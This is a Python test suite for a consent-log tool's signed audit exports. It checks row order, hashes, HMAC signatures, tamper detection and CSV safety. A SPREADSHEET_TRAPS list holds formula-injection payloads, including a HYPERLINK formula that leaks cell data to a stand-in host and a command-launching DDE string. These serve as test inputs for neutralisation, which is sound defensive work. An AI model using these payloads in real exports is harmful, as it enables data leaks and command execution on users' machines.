"""Exports: exactly the asked-for events, in order, with a manifest whose hashes match and the
notices shown; a row-level check that needs nothing but the files."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import shutil
import tempfile
import tracemalloc
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from consentgate.audit.chain import Sealer
from consentgate.audit.export import (
    CSV_BOM,
    EXPORT_COLUMNS,
    _csv_cell,
    _from_csv_cell,
    consent_stats,
    export_chunks,
    export_file,
    export_paths,
    parse_when,
    utc_iso,
    verify_export,
)
from consentgate.audit.signing import key_id, sign_manifest
from consentgate.audit.stores import open_store
from consentgate.audit.stores.base import Query, Store

from .conftest import KEY, make_event

NOTICE = {
    "texts": {"de": {"title": "Wir verwenden Cookies"}},
    "categories": ["analytics"],
    "cookies": [["_ga", "2y"]],
}


async def _fill(store: Store) -> list[str]:
    """Two writer instances interleaving three visitors; returns alice's event ids in time order."""
    one, two = Sealer(KEY), Sealer(KEY)
    alice: list[tuple[int, str]] = []
    for i in range(60):
        event = make_event(i, consent_id=("alice", "bob", "carol")[i % 3], ts=1_700_000_000_000 + i * 1000)
        if event.consent_id == "alice":
            alice.append((event.ts, event.event_id))
        await store.write((one if i % 2 else two).seal([event]))
    await store.put_notice("n" * 64, NOTICE, 1_690_000_000_000)
    return [event_id for _, event_id in sorted(alice)]


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "json"])
async def test_one_consent_ids_export_has_exactly_its_events_in_order(
    store: Store, tmp_path: Path, fmt: str
) -> None:
    alice = await _fill(store)
    target = tmp_path / f"alice.{fmt}"
    manifest = await export_file(store, target, fmt, Query(consent_id="alice"), key=KEY)  # type: ignore[arg-type]
    content = target.read_bytes()
    if fmt == "csv":
        assert content.startswith(CSV_BOM.encode())  # a CSV file is for spreadsheets: UTF-8 BOM
        rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
        assert list(rows[0]) == list(EXPORT_COLUMNS)
    elif fmt == "jsonl":
        rows = [json.loads(line) for line in content.decode().splitlines()]
    else:
        rows = json.loads(content)
    assert [row["event_id"] for row in rows] == alice
    assert {row["consent_id"] for row in rows} == {"alice"}
    assert manifest["rows"] == len(alice) == 20
    assert manifest["sha256"] == hashlib.sha256(content).hexdigest()
    assert len(manifest["chain_heads"]) == 2  # type: ignore[arg-type]
    assert manifest["time_range"]["first_utc"] == utc_iso(1_700_000_000_000)  # type: ignore[index]
    on_disk = json.loads(target.with_name(target.name + ".manifest.json").read_text())
    assert on_disk == manifest
    notices = json.loads(target.with_name(target.name + ".notices.json").read_text())["notices"]
    assert notices["n" * 64]["doc"] == NOTICE
    assert verify_export(target, KEY).ok


async def test_an_export_verifies_row_by_row_and_catches_edits(store: Store, tmp_path: Path) -> None:
    await _fill(store)
    target = tmp_path / "all.csv"
    await export_file(store, target, "csv", Query(), key=KEY)
    check = verify_export(target, KEY)
    assert check.ok and check.rows == 60
    # An edited row with a recomputed file hash: the row's own HMAC still gives it away.
    text = target.read_text().replace("banner.save", "banner.accept", 1)
    target.write_text(text)
    manifest_path = target.with_name(target.name + ".manifest.json")
    manifest = json.loads(manifest_path.read_text())
    manifest["sha256"] = hashlib.sha256(target.read_bytes()).hexdigest()
    manifest_path.write_text(json.dumps(manifest))
    # ...and the recomputed manifest no longer matches its signature.
    signature, row = verify_export(target, KEY).problems
    assert "manifest was changed after it was signed" in signature
    assert "does not match its hash" in row
    target.write_text(text + "extra\r\n")
    assert any("SHA-256 differs" in p for p in verify_export(target, KEY).problems)


async def test_spreadsheet_formulas_are_neutralised_and_still_verify(store: Store, tmp_path: Path) -> None:
    await store.write(Sealer(KEY).seal([make_event(1, consent_id="-12", ui_action='=HYPERLINK("x")')]))
    target = tmp_path / "x.csv"
    await export_file(store, target, "csv", Query(), key=KEY)
    [row] = list(csv.DictReader(io.StringIO(target.read_text("utf-8-sig"))))
    assert row["ui_action"] == '\'=HYPERLINK("x")' and row["consent_id"] == "'-12"
    assert verify_export(target, KEY).ok


async def test_a_large_export_streams_in_chunks(store: Store) -> None:
    sealer = Sealer(KEY)
    await store.write(sealer.seal(make_event(i, path="/" + "p" * 200) for i in range(2000)))
    chunks = [chunk async for chunk in export_chunks(store, Query(), "jsonl")]
    assert len(chunks) > 3 and all(len(chunk) < 200_000 for chunk in chunks)
    assert sum(chunk.count(b"\n") for chunk in chunks) == 2000


async def test_stats_count_choices_per_day_and_region_without_identifiers(store: Store) -> None:
    day = parse_when("2025-03-01")
    all_on = {"necessary": True, "analytics": True, "marketing": True}
    some = {"necessary": True, "analytics": True, "marketing": False}
    none = {"necessary": True, "analytics": False, "marketing": False}
    events = [
        make_event(0, action="accept_all", categories=all_on, ts=day + 1, region="DE"),
        make_event(1, action="save", categories=some, ts=day + 2, region="DE"),
        make_event(2, action="reject_all", categories=none, ts=day + 3, region="DE"),
        make_event(3, action="withdraw", categories=none, ts=day + 4, region="DE"),
        make_event(4, action="close", categories=none, ts=day + 86_400_000, region="FR"),
        make_event(5, action="invalid_cookie", categories=none, ts=day + 5, region="DE"),
    ]
    await store.write(Sealer(KEY).seal(events))
    rows = [row.to_dict() for row in await consent_stats(store, Query())]
    assert rows == [
        {
            "day": "2025-03-01",
            "region": "DE",
            "accept": 1,
            "partial": 1,
            "reject": 1,
            "withdraw": 1,
            "choices": 3,
            "consent_rate": 0.6667,
        },
        {
            "day": "2025-03-02",
            "region": "FR",
            "accept": 0,
            "partial": 0,
            "reject": 1,
            "withdraw": 0,
            "choices": 1,
            "consent_rate": 0.0,
        },
    ]


def test_times_are_read_as_utc() -> None:
    assert parse_when("2025-01-31") == 1_738_281_600_000
    assert parse_when("2025-01-31T00:00:00Z") == parse_when("2025-01-31T01:00:00+01:00") == 1_738_281_600_000
    assert parse_when("1738281600000") == 1_738_281_600_000
    with pytest.raises(ValueError, match="is not a time"):
        parse_when("last tuesday")


# --- opened in a spreadsheet --------------------------------------------------------------------

# What a visitor controls ends up in cells: the page path, the region header behind a
# misconfigured proxy, CSP report fields. Each of these would run as a formula somewhere.
SPREADSHEET_TRAPS = [
    ' =HYPERLINK("http://evil.example/?"&A1)',  # importers that trim cells (LibreOffice, Sheets)
    "\u3000+1+1",  # ideographic space
    "\ufeff@SUM(1)",  # a byte order mark in the middle of a file is invisible
    "\u200b-2+3",  # zero-width space
    "\uff1dcmd|' /C calc'!A0",  # full-width equals sign
    "\n=1+1",
]


@pytest.mark.parametrize("trap", SPREADSHEET_TRAPS)
async def test_formula_signs_behind_blanks_or_in_full_width_are_neutralised(
    store: Store, tmp_path: Path, trap: str
) -> None:
    event = make_event(1, region=trap, path="/" + trap, detail={"blocked_host": trap})
    await store.write(Sealer(KEY).seal([event]))
    target = tmp_path / "x.csv"
    await export_file(store, target, "csv", Query(), key=KEY)
    [row] = list(csv.DictReader(io.StringIO(target.read_text("utf-8-sig"), newline="")))
    assert row["region"] == "'" + trap and row["path"] == "/" + trap
    assert verify_export(target, KEY).ok


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=12))
def test_every_cell_reads_back_exactly_and_never_starts_a_formula(text: str) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow([_csv_cell(text), _csv_cell(text + "x")])
    cell, _ = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert _from_csv_cell("region", cell) == text
    # After whatever blanks an importer trims, the cell starts with its quote mark or with
    # something that is not a formula sign.
    visible = cell.lstrip().lstrip("\ufeff\u200b\u200c\u200d\u2060").lstrip()
    assert cell.startswith("'") or not visible.startswith(tuple("=+-@\t\r\x00\uff1d\uff0b\uff0d\uff20"))


async def test_a_csv_file_starts_with_a_bom_and_a_stream_does_not(store: Store, tmp_path: Path) -> None:
    await store.write(Sealer(KEY).seal([make_event(1, path="/über-uns", locale="de")]))
    target, plain = tmp_path / "proof.csv", tmp_path / "plain.csv"
    await export_file(store, target, "csv", Query(), key=KEY)
    await export_file(store, plain, "csv", Query(), key=KEY, bom=False)
    assert target.read_bytes().startswith(b"\xef\xbb\xbfevent_id,")
    assert plain.read_bytes().startswith(b"event_id,")
    streamed = b"".join([chunk async for chunk in export_chunks(store, Query(), "csv")])
    assert streamed == plain.read_bytes()
    assert verify_export(target, KEY).ok and verify_export(plain, KEY).ok
    assert "/über-uns" in target.read_text("utf-8-sig")


async def test_a_cell_longer_than_the_csv_modules_default_limit_verifies(
    store: Store, tmp_path: Path
) -> None:
    # csv.reader refuses fields over 128 KiB by default; the exporter writes them.
    await store.write(Sealer(KEY).seal([make_event(1, detail={"note": "x" * 200_000})]))
    target = tmp_path / "long.csv"
    await export_file(store, target, "csv", Query(), key=KEY)
    assert verify_export(target, KEY).ok


# --- an export that is damaged is a finding, never a crash --------------------------------------


@pytest.mark.parametrize(
    ("fmt", "damage"),
    [
        ("csv", b""),
        ("jsonl", b""),
        ("json", b""),
        ("json", b'[\n{"event_id":"a",'),
        ("jsonl", b'{"event_id": "a"}\n[1, 2]\n'),
        ("csv", b"\xff\xfe not UTF-8"),
        ("jsonl", b'{"event_id": "\xff"}\n'),
    ],
)
async def test_a_damaged_export_fails_with_a_reason(
    store: Store, tmp_path: Path, fmt: str, damage: bytes
) -> None:
    await _fill(store)
    target = tmp_path / f"all.{fmt}"
    await export_file(store, target, fmt, Query(), key=KEY)  # type: ignore[arg-type]
    target.write_bytes(damage)
    check = verify_export(target, KEY)
    assert not check.ok and not check.unverified
    assert any("SHA-256 differs" in problem for problem in check.problems)
    assert any("the manifest says 60" in p or "not a " + fmt + " export" in p for p in check.problems)


async def test_rows_beyond_twenty_mismatches_are_counted(store: Store, tmp_path: Path) -> None:
    await _fill(store)
    target = tmp_path / "all.jsonl"
    await export_file(store, target, "jsonl", Query(), key=KEY)
    rows = [json.loads(line) for line in target.read_text().splitlines()]
    for row in rows[:30]:
        row["region"] = "US"
    target.write_text("".join(json.dumps(row) + "\n" for row in rows))
    problems = verify_export(target, KEY).problems
    assert sum("does not match its hash" in p for p in problems) == 20
    assert problems[-1] == "… and 10 more rows that do not match their hash"


def test_checking_a_large_export_takes_constant_memory(tmp_path: Path) -> None:
    async def write() -> Path:
        store = open_store(f"sqlite:///{tmp_path}/audit.db")
        await store.open()
        try:
            sealer = Sealer(KEY)
            for start in range(0, 20_000, 4000):
                await store.write(sealer.seal(make_event(i) for i in range(start, start + 4000)))
            target = tmp_path / "all.jsonl"
            await export_file(store, target, "jsonl", Query(), key=KEY)
            return target
        finally:
            await store.close()

    target = asyncio.run(write())
    assert target.stat().st_size > 10_000_000
    tracemalloc.start()
    try:
        check = verify_export(target, KEY)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert check.ok and check.rows == 20_000
    assert peak < 2_000_000, f"verify_export peaked at {peak} bytes for a {target.stat().st_size} byte file"


# --- times ---------------------------------------------------------------------------------------


@settings(max_examples=2000, deadline=None)
@given(st.integers(min_value=0, max_value=4_102_444_800_000))
def test_a_printed_time_reads_back_to_the_same_millisecond(ms: int) -> None:
    # ts_utc in exports and first_utc/last_utc in manifests are pasted back into --since/--until.
    assert parse_when(utc_iso(ms)) == ms
    offset = datetime.fromtimestamp(ms / 1000, UTC).astimezone(timezone(timedelta(hours=-7, minutes=-30)))
    assert parse_when(offset.isoformat(timespec="milliseconds")) in (ms, ms - 1)  # (float above)


def test_known_times_that_floats_put_a_millisecond_early() -> None:
    for text, ms in [
        ("1978-08-16T21:08:59.877Z", 272_149_739_877),
        ("2038-12-31T08:23:14.252Z", 2_177_396_594_252),
        ("2038-12-31T09:53:14.252+01:30", 2_177_396_594_252),
    ]:
        assert parse_when(text) == ms


def test_epoch_seconds_are_refused_not_read_as_1970() -> None:
    with pytest.raises(ValueError, match=r"looks like epoch seconds.*1738281600000"):
        parse_when("1738281600")
    assert parse_when("20250131") == parse_when("2025-01-31")  # ISO basic format, not a number


async def test_a_time_no_calendar_holds_does_not_stop_the_export_of_the_others(
    store: Store, tmp_path: Path
) -> None:
    # A stored ts is any integer: a buggy caller's, or one an insider edited to block exports.
    events = [make_event(1), make_event(2, ts=10**15), make_event(3, ts=-(10**14))]
    await store.write(Sealer(KEY).seal(events))
    target = tmp_path / "all.csv"
    manifest = await export_file(store, target, "csv", Query(), key=KEY)
    assert manifest["rows"] == 3 and verify_export(target, KEY).ok
    rows = list(csv.DictReader(io.StringIO(target.read_text("utf-8-sig"), newline="")))
    assert [row["ts_utc"] for row in rows] == ["", "2025-10-09T08:53:20.001Z", ""]
    days = [row.day for row in await consent_stats(store, Query())]
    assert days == ["2025-10-09", "invalid"]


# --- signed manifests ----------------------------------------------------------------------------

RETIRED_KEY = b"the-key-this-log-used-until-last-year-0123"
ATTACKER_KEY = b"an-insiders-own-key-of-enough-length-012345"


@pytest.fixture
async def signed_export(store: Store, tmp_path: Path) -> Path:
    """A signed JSONL export of a filled store (each store kind), in a folder of its own."""
    await _fill(store)
    folder = tmp_path / "signed"
    folder.mkdir()
    await export_file(store, folder / "all.jsonl", "jsonl", Query(), key=KEY)
    return folder / "all.jsonl"


def _copy_export(target: Path, folder: Path) -> Path:
    for path in export_paths(target):
        shutil.copyfile(path, folder / path.name)
    return folder / target.name


async def test_a_signed_export_verifies_with_the_key_alone(signed_export: Path) -> None:
    paths = export_paths(signed_export)
    manifest = json.loads(paths.manifest.read_bytes())
    assert manifest["signature"] == {
        "file": "all.jsonl.signature.json",
        "algorithm": "HMAC-SHA256",
        "key_id": key_id(KEY),
    }
    check = verify_export(signed_export, KEY)
    assert check.ok and check.rows == 60 and check.signed_by == key_id(KEY) and not check.unsigned


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_byte_changed_in_the_export_its_manifest_or_its_notices_fails(
    signed_export: Path, data: st.DataObject
) -> None:
    part = data.draw(st.sampled_from(["export", "manifest", "notices"]))
    with tempfile.TemporaryDirectory() as folder:
        target = _copy_export(signed_export, Path(folder))
        path = getattr(export_paths(target), part)
        content = bytearray(path.read_bytes())
        position = data.draw(st.integers(min_value=0, max_value=len(content) - 1))
        content[position] ^= data.draw(st.integers(min_value=1, max_value=255))
        path.write_bytes(bytes(content))
        check = verify_export(target, KEY)
        assert not check.ok
        if part == "manifest":
            assert any("changed after it was signed" in problem for problem in check.problems)
        else:
            assert any(f"{path.name}: SHA-256 differs" in problem for problem in check.problems)


async def test_a_row_dropped_with_a_recomputed_manifest_is_caught_by_the_signature(
    signed_export: Path,
) -> None:
    # Every remaining row still matches its own hash and the manifest's figures are consistent:
    # only the signature tells that the manifest is not the one the exporter wrote.
    paths = export_paths(signed_export)
    lines = signed_export.read_bytes().splitlines(keepends=True)
    signed_export.write_bytes(b"".join(lines[:-1]))
    manifest = json.loads(paths.manifest.read_bytes())
    manifest["rows"] = 59
    manifest["sha256"] = hashlib.sha256(signed_export.read_bytes()).hexdigest()
    paths.manifest.write_text(json.dumps(manifest, ensure_ascii=False, indent=2) + "\n", "utf-8")
    [problem] = verify_export(signed_export, KEY).problems
    assert (
        problem
        == "all.jsonl.signature.json: the manifest was changed after it was signed (its SHA-256 differs)"
    )
    # Re-signed with the insider's own key: the key id is not the log's.
    paths.signature.write_bytes(sign_manifest(paths.manifest.read_bytes(), ATTACKER_KEY))
    check = verify_export(signed_export, KEY)
    [problem] = check.problems
    assert (
        f"signed with key id {key_id(ATTACKER_KEY)}; none of the keys given (key ids {key_id(KEY)})"
        in problem
    )
    assert not check.unverified
    # Signature and its mention in the manifest removed: an unsigned export proves nothing, so
    # it fails unless the auditor accepts an unsigned one (which then passes: that is the hole).
    paths.signature.unlink()
    del manifest["signature"]
    paths.manifest.write_text(json.dumps(manifest), "utf-8")
    [problem] = verify_export(signed_export, KEY).problems
    assert "all.jsonl.signature.json is missing: the manifest is not signed" in problem
    assert verify_export(signed_export, KEY, allow_unsigned=True).unsigned


async def test_a_deleted_signature_fails_even_when_unsigned_exports_are_accepted(signed_export: Path) -> None:
    export_paths(signed_export).signature.unlink()
    for allow_unsigned in (False, True):
        check = verify_export(signed_export, KEY, allow_unsigned=allow_unsigned)
        assert check.problems == (
            f"all.jsonl.signature.json is missing: the manifest says it was signed with key id {key_id(KEY)}",
        )


async def test_an_export_made_before_signing_is_refused_unless_unsigned_ones_are_accepted(
    store: Store, tmp_path: Path
) -> None:
    await _fill(store)
    target = tmp_path / "old.csv"
    await export_file(store, target, "csv", Query(), key=None)
    # What consentgate wrote before exports were signed: version 1, no signature anywhere.
    manifest_path = export_paths(target).manifest
    manifest = json.loads(manifest_path.read_bytes())
    del manifest["signature"]
    manifest["consentgate_audit_export"] = 1
    manifest_path.write_text(json.dumps(manifest, ensure_ascii=False, indent=2) + "\n", "utf-8")
    assert not export_paths(target).signature.exists()
    strict = verify_export(target, KEY)
    assert not strict.ok and "is missing: the manifest is not signed" in strict.problems[0]
    lenient = verify_export(target, KEY, allow_unsigned=True)
    assert lenient.ok and lenient.unsigned and lenient.signed_by is None and lenient.rows == 60
    # Accepting unsigned manifests checks the rest all the same.
    target.write_bytes(target.read_bytes().replace(b"banner.save", b"banner.nope", 1))
    assert not verify_export(target, KEY, allow_unsigned=True).ok


async def test_a_log_written_before_a_key_rotation_exports_signed_with_the_new_key(
    store: Store, tmp_path: Path
) -> None:
    await store.write(Sealer(RETIRED_KEY).seal(make_event(i) for i in range(5)))
    await store.write(Sealer(KEY).seal(make_event(i) for i in range(5, 8)))
    target = tmp_path / "rotated.json"
    await export_file(store, target, "json", Query(), key=KEY)
    both = verify_export(target, [KEY, RETIRED_KEY])
    assert both.ok and both.rows == 8 and both.signed_by == key_id(KEY)
    # Only the retired key: its rows verify, so the signature by another key is a finding.
    retired_only = verify_export(target, [RETIRED_KEY])
    assert not retired_only.unverified
    assert any(f"signed with key id {key_id(KEY)}" in problem for problem in retired_only.problems)
    # Only the current key: the signature holds, the retired key's rows are named.
    current_only = verify_export(target, KEY)
    assert current_only.signed_by == key_id(KEY)
    assert sum("does not match its hash" in problem for problem in current_only.problems) == 5


async def test_a_wrong_key_is_unverified_and_names_the_key_id_needed(signed_export: Path) -> None:
    check = verify_export(signed_export, ATTACKER_KEY)
    assert check.problems == () and check.unverified is not None
    assert f"signed with key id {key_id(KEY)}" in check.unverified
    no_key = verify_export(signed_export, None)
    assert no_key.problems == () and no_key.unverified is not None and "no key was given" in no_key.unverified


async def test_an_empty_export_is_still_signed(store: Store, tmp_path: Path) -> None:
    await _fill(store)
    target = tmp_path / "nobody.csv"
    manifest = await export_file(store, target, "csv", Query(consent_id="nobody"), key=KEY)
    assert manifest["rows"] == 0 and verify_export(target, KEY).signed_by == key_id(KEY)
    assert verify_export(target, ATTACKER_KEY).unverified is not None  # not "OK, 0 rows"
    manifest_path = export_paths(target).manifest
    manifest_path.write_bytes(manifest_path.read_bytes().replace(b'"nobody"', b'"someone"'))
    assert not verify_export(target, KEY).ok


async def test_exporting_again_without_a_key_leaves_no_stale_signature(
    signed_export: Path, store: Store
) -> None:
    await export_file(store, signed_export, "jsonl", Query(), key=None)
    assert not export_paths(signed_export).signature.exists()
    assert json.loads(export_paths(signed_export).manifest.read_bytes())["signature"] is None


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(manifest=st.binary(max_size=400) | st.text(max_size=200).map(str.encode))
def test_whatever_a_manifest_holds_checking_it_is_a_finding_never_a_crash(
    signed_export: Path, manifest: bytes
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        target = _copy_export(signed_export, Path(folder))
        export_paths(target).manifest.write_bytes(manifest)
        check = verify_export(target, KEY)
        assert not check.ok


async def test_a_missing_companion_file_is_a_finding(signed_export: Path) -> None:
    paths = export_paths(signed_export)
    paths.notices.unlink()
    assert verify_export(signed_export, KEY).problems == ("all.jsonl.notices.json is missing",)
    paths.signature.unlink()
    paths.signature.mkdir()  # there, but unreadable
    [problem, _] = verify_export(signed_export, KEY).problems
    assert problem.startswith("all.jsonl.signature.json: unreadable: ")
    paths.manifest.unlink()
    [problem] = verify_export(signed_export, KEY).problems
    assert problem.startswith(f"manifest {paths.manifest} unreadable: ")
